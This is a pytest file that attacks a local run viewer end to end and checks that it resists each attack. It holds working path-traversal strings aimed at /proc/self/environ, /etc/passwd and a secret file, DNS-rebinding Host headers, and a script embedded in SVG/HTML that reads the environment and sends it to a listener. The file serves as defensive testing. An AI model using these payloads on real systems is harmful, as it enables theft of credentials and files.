"""Attacks on `lastexam view` (issue 9, attacks 1 and 2), each performed end to end against a real
viewer on 127.0.0.1 that browses a real run: the agent of that run wrote the hostile outputs, the
operator's environment holds provider keys, and a secret file lies beside the run.

1. Reading host files and the viewer's environment through encoded `../` in the trial id or the
   file path (raw requests: no client normalises them), links planted in the trial folder, trial
   folders that are not in the store, and other Host headers (DNS rebinding).
2. Running script in the operator's browser: an output chart.svg (and .html, text, an HTML file
   named .png) whose script would read /proc/self/environ through the viewer and send it to a
   listener on 127.0.0.1, opened in real Chromium. A control server that serves the same file
   plainly proves the payload runs when nothing stops it."""

from __future__ import annotations

import base64
import os
import secrets
import shutil
import socket
import struct
import subprocess
import threading
import time
import zlib
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest

from conftest import LASTEXAM, ROOT, run_command_agent

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
pytestmark = pytest.mark.usefixtures("base_env_ready")
needs_chromium = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium is not installed")
MARK = f"lxview{secrets.token_hex(4)}"
KEYS = {"ANTHROPIC_API_KEY": f"sk-ant-{MARK}", "OPENAI_API_KEY": f"sk-{MARK}", "GEMINI_API_KEY": MARK,
        "GOOGLE_API_KEY": MARK, "SOME_PROVIDER_TOKEN": MARK, "ODD_NAMED_SECRET": MARK}


@dataclass
class Listener:
    """An HTTP server on 127.0.0.1 that records every request it receives."""

    hits: list[dict[str, str]] = field(default_factory=list)
    server: ThreadingHTTPServer | None = None

    def start(self) -> int:
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                return

            def do_GET(self) -> None:
                query = {k: v[0] for k, v in parse_qs(urlsplit(self.path).query).items()}
                hits.append({"path": self.path, **query})
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            do_POST = do_GET

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self.server.server_address[1]

    def stop(self) -> None:
        if self.server:
            self.server.shutdown()
            self.server.server_close()


def exfiltrate(listener_port: int, tag: str) -> str:
    """Script that reads the viewer's environment through attack 1 and sends it to the listener."""
    return (
        "(function(){var run=location.pathname.split('/')[2];"
        f"var to='http://127.0.0.1:{listener_port}/leak?tag={tag}&from='+encodeURIComponent(location.origin);"
        "fetch('/run/'+run+'/trial/'+'..%2F'.repeat(24)+'proc%2Fself/file/environ')"
        ".then(function(r){return r.text()}).catch(function(e){return 'failed '+e})"
        ".then(function(t){location.href=to+'&d='+encodeURIComponent(t.slice(0,6000))});})();"
    )


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def outputs(listener_port: int) -> dict[str, bytes]:
    data_js = base64.b64encode(exfiltrate(listener_port, "svg-data").encode()).decode()

    def script(tag: str) -> str:
        return f"<script>{exfiltrate(listener_port, tag)}</script>"
    return {
        "chart.svg": (f'<svg xmlns="http://www.w3.org/2000/svg"><script href="data:text/javascript;base64,{data_js}"/>'
                      f'{script("svg-inline")}</svg>').encode(),
        "page.html": f"<!doctype html><p>report</p>{script('html')}".encode(),
        "fake.png": f"<html>{script('fake-png')}</html>".encode(),
        "notes.txt": f"plain notes {script('text')}".encode(),
        "plot.png": png(),
        "blob.bin": b"\xff\xfe\x00binary",
    }


@dataclass
class Viewer:
    url: str
    port: int
    pid: int
    run_dir: Path
    trial: str
    secret: Path
    listener: Listener
    listener_port: int
    files: dict[str, bytes]
    stderr: Path

    def file_url(self, rel: str) -> str:
        return f"{self.url}run/run/trial/{self.trial}/file/{rel}"


@pytest.fixture(scope="module")
def viewer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Viewer]:
    root = tmp_path_factory.mktemp("viewer-attacks")
    listener = Listener()
    lport = listener.start()
    files = outputs(lport)
    cmd = ("mkdir -p /task/output && cd /task/output && ln -s /etc/passwd passwd-link"
           " && printf odd > \"$(printf 'odd\\377 #?.txt')\"")
    for name, data in files.items():
        cmd += f" && echo {base64.b64encode(data).decode()} | base64 -d > {name}"
    run_dir = root / "run"
    trial = run_command_agent(cmd, run_dir)["trial_id"]
    secret = root / "secret.txt"
    secret.write_text(f"the operator's secret {MARK}\n")
    (root / "secret-dir").mkdir()
    (root / "secret-dir" / "notes.txt").write_text(MARK)
    out = run_dir / "trials" / trial / "output"
    (out / "planted-link").symlink_to(secret)
    (out / "planted-dir").symlink_to(root / "secret-dir")
    os.link(secret, out / "planted-hard")
    (out / "big.txt").write_bytes(b"line of text\n" * 700_000)  # over 8 MB: beyond what is shown
    (run_dir / "trials" / "planted-trial" / "output").mkdir(parents=True)
    (run_dir / "trials" / "planted-trial" / "output" / "notes.txt").write_text(MARK)
    stderr = root / "viewer.stderr"
    with open(stderr, "w") as err:
        proc = subprocess.Popen([*LASTEXAM, "view", str(run_dir), "--port", "0"], cwd=ROOT,
                                env={**os.environ, **KEYS}, stdout=subprocess.PIPE, stderr=err, text=True)
    url = proc.stdout.readline().strip()
    assert url.startswith("http://127.0.0.1:"), url
    yield Viewer(url, int(url.rsplit(":", 1)[1].strip("/")), proc.pid, run_dir, trial, secret, listener, lport, files,
                 stderr)
    proc.terminate()
    proc.wait(timeout=10)
    listener.stop()


def raw(v: Viewer, target: str, headers: str | None = None, version: str = "HTTP/1.1") -> tuple[int, bytes]:
    """One request sent byte for byte (no client normalises the path); (status, body)."""
    head = f"Host: 127.0.0.1:{v.port}\r\n" if headers is None else headers
    with socket.create_connection(("127.0.0.1", v.port), timeout=30) as s:
        s.sendall(f"GET {target} {version}\r\n{head}Connection: close\r\n\r\n".encode("latin-1"))
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    status_line, _, rest = data.partition(b"\r\n")
    return int(status_line.split()[1]), rest.partition(b"\r\n\r\n")[2]


def leaked(body: bytes) -> bool:
    return MARK.encode() in body or b"root:x:0:0" in body or b"PATH=" in body


UP = "..%2F" * 12
TRAVERSALS = {  # attack 1 and its neighbours: all refused as bad requests
    "encoded slash in trial id (the reported attack)": f"/run/run/trial/{UP}proc%2Fself/file/environ",
    "encoded slash in trial id, lower case": "/run/run/trial/" + "..%2f" * 12 + "etc/file/passwd",
    "encoded dots": "/run/run/trial/{t}/file/%2e%2e/%2e%2e/%2e%2e/secret.txt",
    "plain dots": "/run/run/trial/{t}/file/../../../secret.txt",
    "dots as trial id": "/run/run/trial/../file/../secret.txt",
    "encoded backslash": "/run/run/trial/{t}/file/..%5C..%5C..%5Csecret.txt",
    "raw backslash": "/run/run/trial/{t}/file/..\\..\\..\\secret.txt",
    "double encoding": "/run/run/trial/{t}/file/%252e%252e%252f%252e%252e%252fsecret.txt",
    "double-encoded slash in trial id": "/run/run/trial/..%252F..%252F..%252F/file/secret.txt",
    "NUL": "/run/run/trial/{t}/file/output/notes.txt%00.png",
    "absolute path": "/run/run/trial/{t}/file//etc/passwd",
    "encoded absolute path": "/run/run/trial/{t}/file/%2Fetc%2Fpasswd",
    "absolute-form target": "http://127.0.0.1:{p}/run/run/trial/{t}/file/../../../secret.txt",
    "no leading slash": "run/run/trial/{t}/file/output/notes.txt",
}


@pytest.mark.parametrize("target", TRAVERSALS.values(), ids=TRAVERSALS.keys())
def test_traversal_refused(viewer: Viewer, target: str) -> None:
    status, body = raw(viewer, target.format(t=viewer.trial, p=viewer.port))
    assert status == 400, body[:300]
    assert not leaked(body)


@pytest.mark.parametrize("target", [
    "/run/run/trial/{t}/file/output/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/secret.txt",  # overlong UTF-8
    "/run/run/trial/{t}/file/output/%ef%bc%8e%ef%bc%8e%ef%bc%8fsecret.txt",  # fullwidth ../
    "/run/run/trial/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afsecret.txt/file/x",
    "/run/run/trial/{t}/file/output/passwd-link",  # the agent's own symlink (the snapshot drops it)
], ids=["overlong", "fullwidth", "overlong-trial-id", "agent-symlink"])
def test_lookalike_names_are_just_missing(viewer: Viewer, target: str) -> None:
    status, body = raw(viewer, target.format(t=viewer.trial))
    assert status == 404, body[:300]
    assert not leaked(body)


@pytest.mark.parametrize("rel", ["output/planted-link", "output/planted-hard"])
def test_links_in_trial_folder_refused(viewer: Viewer, rel: str) -> None:
    r = httpx.get(viewer.file_url(rel))
    assert r.status_code == 403, r.text[:300]
    assert not leaked(r.content)


def test_link_to_folder_refused(viewer: Viewer) -> None:
    r = httpx.get(viewer.file_url("output/planted-dir/notes.txt"))
    assert r.status_code in (403, 404), r.text[:300]
    assert not leaked(r.content)


def test_trial_must_be_in_the_store(viewer: Viewer) -> None:
    assert (viewer.run_dir / "trials" / "planted-trial" / "output" / "notes.txt").is_file()
    r = httpx.get(f"{viewer.url}run/run/trial/planted-trial/file/output/notes.txt")
    assert r.status_code == 404
    assert not leaked(r.content)


BAD_HOSTS = ["evil.example", "evil.example:{p}", "127.0.0.1", "localhost", "127.0.0.1:{q}", "0.0.0.0:{p}",
             "127.0.0.2:{p}", "[::1]:{p}", "127.0.0.1:{p}.evil.example", "localhost.:{p}", "2130706433:{p}"]


@pytest.mark.parametrize("host", BAD_HOSTS)
def test_other_host_headers_refused(viewer: Viewer, host: str) -> None:
    host = host.format(p=viewer.port, q=viewer.port + 1)
    for path in ("/", f"/run/run/trial/{viewer.trial}", f"/run/run/trial/{viewer.trial}/file/output/notes.txt"):
        r = httpx.get(f"{viewer.url.rstrip('/')}{path}", headers={"Host": host})
        assert r.status_code == 403, (host, path, r.status_code)
        assert viewer.trial not in r.text and "plain notes" not in r.text


@pytest.mark.parametrize("headers", ["", "Host: 127.0.0.1:{p}\r\nHost: evil.example\r\n"], ids=["none", "two"])
def test_missing_or_repeated_host_refused(viewer: Viewer, headers: str) -> None:
    status, body = raw(viewer, "/", headers.format(p=viewer.port), version="HTTP/1.0")
    assert status == 400, body[:300]


@pytest.mark.parametrize("host", ["127.0.0.1:{p}", "localhost:{p}"])
def test_bound_host_served(viewer: Viewer, host: str) -> None:
    r = httpx.get(viewer.url, headers={"Host": host.format(p=viewer.port)})
    assert r.status_code == 200 and "run" in r.text


EXPECTED = {  # file: (content type, disposition)
    "chart.svg": ("application/octet-stream", "attachment"),
    "page.html": ("application/octet-stream", "attachment"),
    "fake.png": ("text/plain; charset=utf-8", "inline"),
    "notes.txt": ("text/plain; charset=utf-8", "inline"),
    "plot.png": ("image/png", "inline"),
    "blob.bin": ("application/octet-stream", "attachment"),
}


@pytest.mark.parametrize("name", EXPECTED)
def test_agent_files_are_inert(viewer: Viewer, name: str) -> None:
    r = httpx.get(viewer.file_url(f"output/{name}"))
    assert r.status_code == 200
    assert r.content == viewer.files[name]
    assert r.headers["content-type"] == EXPECTED[name][0]
    assert r.headers["content-disposition"].split(";")[0] == EXPECTED[name][1]
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["content-security-policy"] == "default-src 'none'; sandbox"


def test_large_file_is_a_download(viewer: Viewer) -> None:
    r = httpx.get(viewer.file_url("output/big.txt"))
    assert r.status_code == 200
    assert r.content == b"line of text\n" * 700_000
    assert r.headers["content-type"] == "application/octet-stream"
    assert r.headers["content-disposition"].startswith("attachment;")
    assert r.headers["content-security-policy"] == "default-src 'none'; sandbox"


def test_odd_names_listed_and_served(viewer: Viewer) -> None:
    page = httpx.get(f"{viewer.url}run/run/trial/{viewer.trial}")
    assert page.status_code == 200
    link = f"/run/run/trial/{viewer.trial}/file/output/odd%FF%20%23%3F.txt"
    assert f"href='{link}'" in page.text
    r = httpx.get(viewer.url.rstrip("/") + link)
    assert r.status_code == 200 and r.content == b"odd"
    assert r.headers["content-disposition"] == "inline; filename*=UTF-8''odd%FF%20%23%3F.txt"


def test_viewer_pages_allow_no_script(viewer: Viewer) -> None:
    for path in ("", "run/run", f"run/run/trial/{viewer.trial}", "run/nope"):
        r = httpx.get(viewer.url + path)
        policy = dict(d.strip().split(" ", 1) for d in r.headers["content-security-policy"].split(";"))
        assert policy["default-src"] == "'none'" and "script-src" not in policy, policy
        assert "data:" not in policy.get("style-src", "") and "data:" not in policy.get("default-src", "")
        assert r.headers["x-content-type-options"] == "nosniff"


def test_viewer_environment_holds_no_keys(viewer: Viewer) -> None:
    environ = Path(f"/proc/{viewer.pid}/environ").read_bytes()
    assert b"PATH=" in environ  # read the right process
    assert MARK.encode() not in environ
    assert not any(k.encode() + b"=" in environ for k in KEYS)


def _chromium(p, *extra: str):
    return p.chromium.launch(executable_path=CHROMIUM, args=[
        "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run", *extra])


def _wait_for(predicate, limit_s: float = 60) -> bool:
    end = time.monotonic() + limit_s
    while time.monotonic() < end:
        if predicate():
            return True
        time.sleep(0.2)
    return False


@needs_chromium
def test_script_in_outputs_does_not_run_in_chromium(viewer: Viewer, tmp_path: Path) -> None:
    from playwright.sync_api import Error, sync_playwright

    control_dir = tmp_path / "run" / "x" / "trial" / "y"
    control_dir.mkdir(parents=True)
    (control_dir / "chart.svg").write_bytes(viewer.files["chart.svg"])
    control = ThreadingHTTPServer(("127.0.0.1", 0), partial(SimpleHTTPRequestHandler, directory=str(tmp_path)))
    threading.Thread(target=control.serve_forever, daemon=True).start()
    control_origin = f"http://127.0.0.1:{control.server_address[1]}"
    try:
        with sync_playwright() as p:
            browser = _chromium(p)
            context = browser.new_context(accept_downloads=True)
            page = context.new_page()
            page.goto(f"{viewer.url}run/run/trial/{viewer.trial}")
            page.get_by_role("link", name="chart.svg").click()  # as the operator would
            for name in EXPECTED:
                with suppress(Error):  # a download aborts the navigation
                    context.new_page().goto(viewer.file_url(f"output/{name}"))
            # control: the same bytes served as an SVG document do run and reach the listener
            context.new_page().goto(f"{control_origin}/run/x/trial/y/chart.svg")
            assert _wait_for(lambda: any(h.get("from") == control_origin for h in viewer.listener.hits)), \
                "the payload did not run even when served plainly: this test proves nothing"
            browser.close()
    finally:
        control.shutdown()
        control.server_close()
    # the control's navigation to the listener makes Chromium ask it for a favicon
    from_viewer = [h for h in viewer.listener.hits if h.get("from") != control_origin and h["path"] != "/favicon.ico"]
    assert from_viewer == []
    assert not any(MARK in h.get("d", "") for h in viewer.listener.hits)


@needs_chromium
def test_dns_rebinding_in_chromium(viewer: Viewer) -> None:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = _chromium(p, "--host-resolver-rules=MAP rebind.example 127.0.0.1")
        page = browser.new_page()
        for path in ("", f"run/run/trial/{viewer.trial}", f"run/run/trial/{viewer.trial}/file/output/notes.txt"):
            response = page.goto(f"http://rebind.example:{viewer.port}/{path}")
            assert response is not None and response.status == 403, path
            assert viewer.trial not in page.content() and "plain notes" not in page.content()
        browser.close()


def test_viewer_printed_no_traceback(viewer: Viewer) -> None:
    """Last in this file: after every attack above, the viewer never crashed on a request."""
    assert raw(viewer, "/")[0] == 200
    assert "Traceback" not in viewer.stderr.read_text()


def test_a_grown_exec_log_is_read_in_part(tmp_path: Path) -> None:
    """exec.jsonl grows with what the agent runs (tens of MB): a trial page reads its first
    EXEC_LOG_BYTES only, and says when there was more."""
    import json

    from lastexam.layout import RunPaths
    from lastexam.viewer import pages
    from lastexam.viewer.paths import TrialFolder

    log = RunPaths(tmp_path).trial("t").exec_log
    log.parent.mkdir(parents=True)
    event = {"pid": 1, "time": 1.0, "path": "/bin/sh", "argv": ["sh"], "exit": "0"}
    late = {**event, "path": f"/bin/{MARK}"}
    with log.open("w") as f:
        f.write(json.dumps(event) + "\n")
        f.write(json.dumps({**event, "argv": ["x" * pages.EXEC_LOG_BYTES]}) + "\n")
        f.write(json.dumps(late) + "\n")
    shown = pages._exec_log(TrialFolder(tmp_path, "t"))
    assert shown.count("/bin/sh") == 1 and MARK not in shown and "…" in shown
    log.write_text("".join(json.dumps(event) + "\n" for _ in range(pages.EXEC_LOG_ROWS + 1)))
    shown = pages._exec_log(TrialFolder(tmp_path, "t"))
    assert shown.count("/bin/sh") == pages.EXEC_LOG_ROWS and "…" in shown
    log.write_text(json.dumps(late) + "\n")
    shown = pages._exec_log(TrialFolder(tmp_path, "t"))
    assert MARK in shown and "…" not in shown


def test_a_grown_trajectory_is_shown_in_part(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """trajectory.json grows with the agent's steps (up to tens of thousands, long messages):
    a trial page shows its first TRAJECTORY_STEPS steps, and links a file too large to parse."""
    import json

    from lastexam.layout import RunPaths
    from lastexam.viewer import pages
    from lastexam.viewer.paths import TrialFolder

    path = RunPaths(tmp_path).trial("t").trajectory
    path.parent.mkdir(parents=True)
    steps = [{"step_id": i, "source": "agent", "message": f"{MARK}-{i}"}
             for i in range(pages.TRAJECTORY_STEPS + 5)]
    path.write_text(json.dumps({"steps": steps}))
    shown = pages._trajectory(TrialFolder(tmp_path, "t"), "/base")
    assert shown.count("class='step agent'") == pages.TRAJECTORY_STEPS
    last = pages.TRAJECTORY_STEPS - 1
    assert f"{MARK}-{last}<" in shown and f"{MARK}-{last + 1}<" not in shown
    assert "and 5 more steps" in shown and "/base/file/trajectory.json" in shown
    monkeypatch.setattr(pages, "TRAJECTORY_BYTES", path.stat().st_size - 1)
    shown = pages._trajectory(TrialFolder(tmp_path, "t"), "/base")
    assert MARK not in shown and "too large to show" in shown and "/base/file/trajectory.json" in shown
